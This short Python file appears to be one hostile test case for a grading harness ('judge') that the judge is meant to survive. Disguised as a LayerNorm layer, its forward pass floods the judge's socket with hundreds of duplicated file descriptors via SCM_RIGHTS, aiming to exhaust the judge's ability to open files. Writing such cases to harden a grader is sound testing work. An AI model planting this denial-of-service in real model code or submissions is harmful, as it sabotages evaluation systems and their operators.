# attack: sends_descriptors
# idea: send open files over the wire until the judge can open none
# must: survive; the judge takes bytes alone
import array
import contextlib
import os
import socket

from kit import Right, wire

link = socket.socket(fileno=os.dup(wire()))
files = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 250)


class LayerNorm(Right):
    def forward(self, x):
        with contextlib.suppress(OSError):
            for _ in range(8):
                # An empty message carries nothing on a stream; a byte would break the protocol.
                link.sendmsg([], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
        return super().forward(x)
